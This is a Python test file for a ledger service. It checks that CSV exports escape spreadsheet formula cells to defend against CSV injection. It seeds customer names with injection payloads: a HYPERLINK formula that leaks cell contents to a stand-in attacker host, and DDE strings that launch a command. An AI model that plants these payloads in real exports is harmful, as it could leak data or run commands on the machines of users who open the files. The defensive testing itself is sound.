"""Every CSV the service writes neutralises formula cells (OWASP CSV injection): a cell that
starts with = + - @ TAB or CR gets a leading single quote, unless it is a plain number."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert

from ledger.db import transaction
from ledger.models import Customer, Invoice
from ledger.repositories import api_keys
from server.app import create_app
from web.csv import safe_cell
from workflows.runtime import Runtime

HOSTILE = {
    "C1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "C2": "+cmd|' /C calc'!A0",
    "C3": "-2+3+cmd|' /C calc'!A0",
    "C4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C5": "\t=1+1",
    "C6": "\r=1+1",
    "C7": "  =1+1",
    "=C8": "Fabrikam",
}


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1", "' =1"), ("-", "'-"), ("=", "'="),
    # Plain numbers stay numbers: negative amounts and day figures are values, not formulas.
    ("-12.50", "-12.50"), ("+3", "+3"), ("-0.5", "-0.5"), ("12.50", "12.50"),
    ("1-30", "1-30"), ("90+", "90+"), ("Contoso Ltd", "Contoso Ltd"), ("", ""),
    ("a=b", "a=b"), ("-1e5", "'-1e5"), ("-1,000.00", "'-1,000.00"), ("-١٢", "'-١٢"),
])
def test_safe_cell(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def _seed(rt: Runtime) -> str:
    with transaction(rt.engine) as s:
        for n, (customer_id, name) in enumerate(sorted(HOSTILE.items()), start=1):
            s.execute(insert(Customer).values(id=customer_id, name=name))
            s.execute(insert(Invoice).values(
                number=f"INV-{n}", customer_id=customer_id, currency="EUR",
                amount_minor=10000 * n, open_minor=10000 * n, issue_date=date(2026, 1, 1),
                due_date=date(2026, 2, 1)))
        return api_keys.create(s, name="erp", scopes=["ar:read", "treasury:review"],
                               secret=rt.settings.secret_key)


def test_the_aging_export_neutralises_formula_cells(rt: Runtime) -> None:
    key = _seed(rt)
    with TestClient(create_app(rt)) as client:
        r = client.get("/api/v1/ar-metrics/aging", params={"as_of": "2026-03-31", "format": "csv"},
                       headers={"Authorization": f"Bearer {key}"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert rows[0][:2] == ["customer_id", "customer_name"]
    by_id = {row[0]: row for row in rows[1:]}
    assert {row[1] for row in rows[1:]} == {
        "'" + name if name.lstrip(" ")[0] in "=+-@\t\r" else name for name in HOSTILE.values()}
    assert by_id["'=C8"][1] == "Fabrikam"  # the id is a cell like any other
    # No cell a spreadsheet would evaluate, and the amounts are still plain numbers.
    assert not any(cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))
                   for row in rows for cell in row)
    assert all(float(cell) >= 0 for row in rows[1:] for cell in row[3:])


def test_every_csv_route_goes_through_the_helper(rt: Runtime) -> None:
    """The API's `format=csv` routes and the dashboard's links: a hostile customer id (the
    `customer` filter is echoed nowhere, but names and ids are) never comes out raw."""
    key = _seed(rt)
    headers = {"Authorization": f"Bearer {key}"}
    with TestClient(create_app(rt)) as client:
        urls = [
            "/api/v1/ar-metrics?as_of=2026-03-31&format=csv",
            "/api/v1/ar-metrics/aging?as_of=2026-03-31&format=csv&by=bucket",
            "/api/v1/ar-metrics/aging?as_of=2026-03-31&format=csv",
            "/api/v1/ar-metrics/trend?metric=dso&to=2026-03-31&format=csv",
        ]
        for url in urls:
            r = client.get(url, headers=headers)
            assert r.status_code == 200, (url, r.text)
            for row in csv.reader(io.StringIO(r.text, newline="")):
                for cell in row:
                    assert safe_cell(cell) == cell or cell.startswith("'"), (url, cell)
                    assert not cell.startswith(("=", "@", "\t", "\r")), (url, cell)
